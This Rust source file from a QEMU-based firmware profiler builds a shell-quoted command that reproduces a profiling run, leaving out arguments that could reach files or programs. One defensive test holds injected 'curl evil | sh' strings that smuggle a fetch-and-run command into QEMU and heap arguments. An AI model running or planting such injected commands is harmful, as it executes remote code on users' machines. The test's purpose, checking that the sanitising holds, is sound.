// SPDX-License-Identifier: MIT OR Apache-2.0
//! Facts of a run for the report, and the command that makes the same profile again.

use clap::ValueEnum as _;

use crate::analysis::debug_hints;
use crate::analysis::describe;
use crate::analysis::stacks::View;
use crate::analysis::time;
use crate::chip::{core, cycled};
use crate::image::heap::rule::Kind;
use crate::profile::input::{Input, What, When};
use crate::profile::{Facts, Profile, SpanKind, Window};
use crate::run::contain::semihosting::Semihosting;
use crate::run::request::options::{DEFAULT_BIN_BYTES, DEFAULT_MAX_DEPTH, DEFAULT_PERIOD_INSNS};
use crate::run::request::settings::{self, Setting};
use crate::text::escape::escape;
use crate::text::number::{Hex, frequency, group};

/// Facts of a run as terms with their texts, in the order of reading.
pub(super) fn of(profile: &Profile, view: View) -> Vec<(String, String)> {
    let mut facts = Terms { list: Vec::new() };
    facts.image(&profile.facts);
    facts.machine(profile);
    facts.measurement(profile);
    facts.execution(profile);
    for producer in &profile.names.producers {
        facts.say("Compiled by", producer.clone());
    }
    facts.say_any("In a debugger", debug_hints::sentence(profile, debug_hints::PROFILE));
    facts.say("Made by", format!("harness {}", profile.facts.harness_version));
    facts.say("The same again", command(profile, view));
    facts.list
}

/// Terms so far, with their texts.
struct Terms {
    list: Vec<(String, String)>,
}

impl Terms {
    fn say(&mut self, term: &str, text: String) {
        self.list.push((term.to_owned(), text));
    }

    /// Adds one row with this term for each text.
    fn say_any(&mut self, term: &str, texts: impl IntoIterator<Item = String>) {
        texts.into_iter().for_each(|text| self.say(term, text));
    }

    fn image(&mut self, facts: &Facts) {
        self.say("Image", facts.image_name.clone());
        self.say("SHA-256 of the image", facts.image_sha256.clone());
        self.say_any("SHA-256 of the symbols", facts.symbols_sha256.clone());
    }

    /// The machine, and the settings that the firmware meets there.
    fn machine(&mut self, profile: &Profile) {
        let facts = &profile.facts;
        self.say("Instruction set", facts.isa.clone());
        let cpu = facts.cpu.as_ref().map_or_else(String::new, |cpu| format!(", CPU {cpu}"));
        self.say("Machine", format!("QEMU {} {}{cpu}", facts.qemu_version, facts.machine));
        if !facts.qemu_args.is_empty() {
            self.say("QEMU arguments", facts.qemu_args.join(" "));
        }
        if profile.vcpus.len() > 1 {
            self.say("vCPUs", profile.vcpus.len().to_string());
        }
        self.say(
            "Firmware's time",
            match time::clock_hz(profile) {
                Some(hz) => format!("by cycles at {}", frequency(hz)),
                None => format!("{} ns per instruction", 1_u64 << facts.icount_shift),
            },
        );
        if !facts.firmware_args.is_empty() {
            self.say("Firmware's arguments", facts.firmware_args.join(" "));
        }
        self.say_any("Semihosting", facts.semihosting.clone());
        self.say_any("Loaded at", facts.load_addr.map(|address| Hex(address).to_string()));
        if facts.load_bias != 0 {
            self.say("Load bias", format!("{:#x}", facts.load_bias));
        }
        self.say_any("Vector table", facts.vectors.map(|address| Hex(address).to_string()));
        self.say_any("Stubs", describe::describe_stubs(facts));
        self.say_any("Chip", describe::describe_chip(profile));
        self.say("Entry", describe::place(&profile.names, facts.entry));
    }

    fn measurement(&mut self, profile: &Profile) {
        let facts = &profile.facts;
        let jitter = facts.jitter_seed.map_or_else(String::new, |seed| format!(", dithered with seed {seed}"));
        self.say("Samples", format!("one every {} instructions{jitter}", group(facts.period_insns)));
        self.say(
            "Call stacks",
            match (profile.tree.is_empty(), facts.max_depth) {
                (false, _) => "exact: every call and return was followed".to_owned(),
                (true, Some(depth)) => format!("at the samples, at most {} frames", group(depth.into())),
                (true, None) => "none were taken".to_owned(),
            },
        );
    }

    /// The firmware's execution, in the window and before it.
    fn execution(&mut self, profile: &Profile) {
        let facts = &profile.facts;
        if facts.before_window_insns > 0 {
            self.say("Before the window", format!("{} instructions", group(facts.before_window_insns)));
        }
        self.say("End", describe::describe_end(profile));
        self.say_any("Window", describe::describe_unopened(profile));
        self.say_any("Input", describe::describe_input(facts));
        self.say_any("Asked of the host", describe::describe_notes(profile));
        if facts.waits > 0 {
            self.say("Waits for an interrupt", group(facts.waits));
        }
        if facts.slept_insns > 0 {
            self.say("Idle in wfe", format!("{} instructions", group(facts.slept_insns)));
        }
        let functions = time::waiting_functions(profile);
        if !functions.is_empty() {
            let kind = if facts.waiting.unsure > 0 { "about " } else { "" };
            let insns = group(time::waiting_insns(profile));
            self.say(&format!("Waiting in {}", functions.join(", ")), format!("{kind}{insns} instructions"));
        }
        self.say_any("Not attributed", describe::describe_unresolved(facts));
    }
}

/// Command that makes the profile, quoted for a shell.
fn command(profile: &Profile, view: View) -> String {
    let facts = &profile.facts;
    let mut line = CommandLine { words: vec!["harness".to_owned()], left_out: Vec::new() };
    if !facts.firmware_args.is_empty() {
        line.switch("run");
    }
    line.window(&facts.window);
    line.measurement(profile);
    line.input(&facts.input);
    line.machine(profile);
    line.image(profile);
    let (settings, others) = settings::read(&facts.qemu_args);
    for argument in settings.iter().flat_map(Setting::words) {
        line.words.push(quote(&format!("--qemu-arg={argument}")));
    }
    line.records(profile);
    if facts.max_depth.is_none() {
        line.switch("--no-stacks");
    }
    if view.fold_irqs {
        line.switch("--fold-irqs");
    }
    // A file's name that begins with `-` must not be taken for an option.
    let here = if facts.image_name.starts_with('-') { "./" } else { "" };
    line.words.push(quote(&format!("{here}{}", facts.image_name)));
    if !facts.firmware_args.is_empty() {
        line.switch("--");
        line.words.extend(facts.firmware_args.iter().map(|argument| quote(argument)));
    }
    let CommandLine { mut words, mut left_out } = line;
    left_out.extend(others.iter().map(|other| format!("QEMU's {}", other.to_string().escape_debug())));
    if !left_out.is_empty() {
        words.push(format!("# left out, since it may reach files or programs: {}", left_out.join("; ")));
    }
    words.join(" ")
}

/// Words of a command that is shown in a page.
///
/// A page may come from a stranger, and the command may be copied and run. So of QEMU's arguments the command has only
/// those that a profile may bring along. The others are named in a comment, escaped to one line.
struct CommandLine {
    words: Vec<String>,
    left_out: Vec<String>,
}

impl CommandLine {
    fn switch(&mut self, word: &str) {
        self.words.push(word.to_owned());
    }

    fn option(&mut self, name: &str, value: impl ToString) {
        self.words.extend([name.to_owned(), quote(&value.to_string())]);
    }

    /// Adds an option that may have no value.
    fn optional(&mut self, name: &str, value: Option<impl ToString>) {
        value.into_iter().for_each(|value| self.option(name, value));
    }

    fn window(&mut self, window: &Window) {
        self.optional("--for", window.for_insns);
        self.optional("--from", window.from.as_ref());
        self.optional("--until", window.until.as_ref());
        self.optional("--max-insns", window.max_insns);
        self.optional("--resets", window.resets);
    }

    /// Adds the options of samples, bins, spans and slices.
    fn measurement(&mut self, profile: &Profile) {
        let facts = &profile.facts;
        self.optional("--period", Some(facts.period_insns).filter(|&insns| insns != DEFAULT_PERIOD_INSNS));
        self.optional("--seeded-jitter", facts.jitter_seed);
        self.optional("--max-depth", facts.max_depth.filter(|&depth| depth != DEFAULT_MAX_DEPTH));
        self.optional("--bin-bytes", Some(facts.bin_bytes).filter(|&bytes| bytes != DEFAULT_BIN_BYTES));
        for span in &profile.spans {
            if let SpanKind::Between { from, until } = span.kind {
                let generic = facts.generic_spans.iter().find(|span| (span.from, span.until) == (from, until));
                let name = generic.map_or_else(|| format!("{from:#x}..{until:#x}"), |span| span.name.clone());
                self.option("--span", name);
            }
        }
        self.optional("--slice", profile.parts.slice_insns);
    }

    fn input(&mut self, inputs: &[Input]) {
        for input in inputs {
            let when = match &input.when {
                When::At(insns) => insns.to_string(),
                When::AtNs(ns) => format!("{ns}ns"),
                When::After(prompt) => escape(prompt.as_bytes()),
            };
            let (at, after, what) = match &input.what {
                What::Text(bytes) => ("--input", "--input-after", escape(bytes)),
                What::Outside(changes) => ("--set", "--set-after", changes.to_string()),
            };
            let option = if matches!(input.when, When::After(_)) { after } else { at };
            self.option(option, format!("{when}:{what}"));
        }
    }

    fn machine(&mut self, profile: &Profile) {
        let facts = &profile.facts;
        match &facts.chip {
            Some(chip) if chip.is_given() => {
                self.option("--chip", &chip.given);
                chip.svd.iter().for_each(|svd| self.option("--svd", svd));
            }
            _ if settings::check_machine(&facts.machine).is_ok() => self.option("--machine", &facts.machine),
            _ => self.left_out.push(format!("--machine {}", facts.machine.escape_debug())),
        }
        match &facts.cpu {
            Some(cpu) if settings::check_cpu(cpu).is_ok() => self.option("--cpu", cpu),
            cpu => self.left_out.extend(cpu.iter().map(|cpu| format!("--cpu {}", cpu.escape_debug()))),
        }
        if time::clock_hz(profile).is_none() {
            self.option("--shift", facts.icount_shift);
        }
    }

    /// Adds the options about the image's place, its semihosting, its stubs and its symbols.
    fn image(&mut self, profile: &Profile) {
        let facts = &profile.facts;
        self.optional("--load-addr", facts.load_addr.map(|address| format!("{address:#x}")));
        if facts.load_bias != 0 {
            self.option("--load-bias", format!("{:#x}", facts.load_bias));
        }
        self.optional("--vectors", facts.vectors.map(|address| format!("{address:#x}")));
        if let Some(served) = &facts.semihosting {
            match Semihosting::from_str(served, false) {
                Ok(Semihosting::AtUse | Semihosting::Unchecked) | Err(_) => {
                    self.left_out.push(format!("--semihosting {}", served.escape_debug()));
                }
                Ok(_) => self.option("--semihosting", served),
            }
        }
        for stub in &facts.stubs {
            let is_alone = profile.names.functions.iter().filter(|function| function.name == stub.name).count() == 1;
            let place = if is_alone { String::new() } else { format!("@{:#x}", stub.address) };
            self.option("--stub", format!("{}{place}{}", stub.name, stub.returned()));
        }
        if facts.symbols_sha256.is_some() {
            self.option("--symbols", "ELF");
        }
    }

    /// Adds the options of the exact tree, the heap and the timeline.
    fn records(&mut self, profile: &Profile) {
        if !profile.tree.is_empty() {
            self.switch("--exact");
        }
        if let Some(cycles) = &profile.cycles {
            let core = cycles.core.as_deref();
            let at = cycles.clock_hz.map_or_else(String::new, |hz| format!("@{hz}"));
            match core.filter(|core| !core::is_known(core)) {
                Some(file) => self.left_out.push(format!("--cycles={}{at}", file.escape_debug())),
                None => self.switch(&format!("--cycles={}{at}", core.unwrap_or(cycled::AUTO))),
            }
        }
        if let Some(heap) = &profile.heap {
            self.switch("--heap");
            for (option, rule) in &heap.rules {
                match [Kind::Alloc, Kind::Free].map(Kind::option).into_iter().find(|known| known == option) {
                    Some(option) => self.option(option, rule),
                    None => self.left_out.push(format!("{} {}", option.escape_debug(), rule.escape_debug())),
                }
            }
        }
        if let Some(timeline) = &profile.timeline {
            self.switch("--timeline");
            timeline.patterns.iter().for_each(|pattern| self.option("--trace", pattern));
        }
    }
}

/// Quotes a word for a shell.
fn quote(word: &str) -> String {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_=+.,:/@%".contains(&byte);
    if !word.is_empty() && word.bytes().all(is_plain) {
        return word.to_owned();
    }
    format!("'{}'", word.replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::profile::Heap;
    use crate::profile::testing::empty;

    #[test]
    fn the_command_says_what_is_not_the_default_and_survives_a_shell() {
        let mut profile = empty();
        let facts = &mut profile.facts;
        facts.image_name = "it's mine.elf".to_owned();
        facts.window.for_insns = Some(30_000_000);
        facts.window.from = Some("f<int, 3>(char)".to_owned());
        facts.input = vec![Input::after("a\\: :go\\n").unwrap(), Input::at("1M:\\xff\\\\").unwrap()];
        facts.qemu_args = vec!["-smp".to_owned(), "2".to_owned()];
        facts.semihosting = Semihosting::Off.other_than_usual();
        assert_eq!(Semihosting::default().other_than_usual(), None);
        let command = command(&profile, View { fold_irqs: true });
        for part in [
            "--for 30000000 ",
            "--from 'f<int, 3>(char)' ",
            r"--input-after 'a\: :go\n' ",
            r"--input '1000000:\xff\\' ",
            "--qemu-arg=-smp --qemu-arg=2 ",
            "--fold-irqs",
            "--semihosting off ",
            r"'it'\''s mine.elf'",
        ] {
            assert!(command.contains(part), "{part} in {command}");
        }
    }

    #[test]
    fn what_is_copied_from_a_page_reaches_no_file_or_program() {
        let mut profile = empty();
        let facts = &mut profile.facts;
        facts.image_name = "--sandbox=off".to_owned();
        facts.machine = "mps2-an385,dumpdtb=/x".to_owned();
        facts.cpu = Some("cortex-m3,x=/y".to_owned());
        facts.semihosting = Some("unchecked".to_owned());
        let arguments = ["-smp", "2", "-plugin", "evil.so\ncurl evil | sh", "-s"];
        facts.qemu_args = arguments.map(str::to_owned).to_vec();
        let rules = ["--heap-alloc", "; curl evil | sh #"].map(|option| (option.to_owned(), "f(r0)".to_owned()));
        profile.heap = Some(Heap { rules: rules.to_vec(), ..Heap::default() });
        let command = command(&profile, View::default());
        let (run, left_out) = command.split_once(" # left out, ").unwrap();
        assert!(
            run.ends_with("--qemu-arg=-smp --qemu-arg=2 --heap --heap-alloc 'f(r0)' --no-stacks ./--sandbox=off"),
            "{run}"
        );
        assert!(
            !run.contains("dumpdtb") && !run.contains("curl") && !run.contains("/y") && !run.contains("evil"),
            "{run}"
        );
        let semihosting = "--semihosting unchecked";
        assert!(!run.contains(semihosting) && left_out.contains(semihosting), "{command}");
        assert!(
            left_out
                .contains("dumpdtb=/x; --cpu cortex-m3,x=/y; --semihosting unchecked; ; curl evil | sh # f(r0); QEMU's -plugin evil.so\\ncurl"),
            "{left_out}"
        );
        assert!(left_out.ends_with("; QEMU's -s") && !left_out.contains('\n'), "{left_out}");
    }

    #[test]
    fn input_reads_back_as_it_was() {
        let bytes: Vec<u8> = (0..=255).chain("größe".bytes()).collect();
        let typed = format!("1:{}", escape(&bytes));
        assert_eq!(Input::at(&typed).unwrap().typed(), bytes);
    }
}
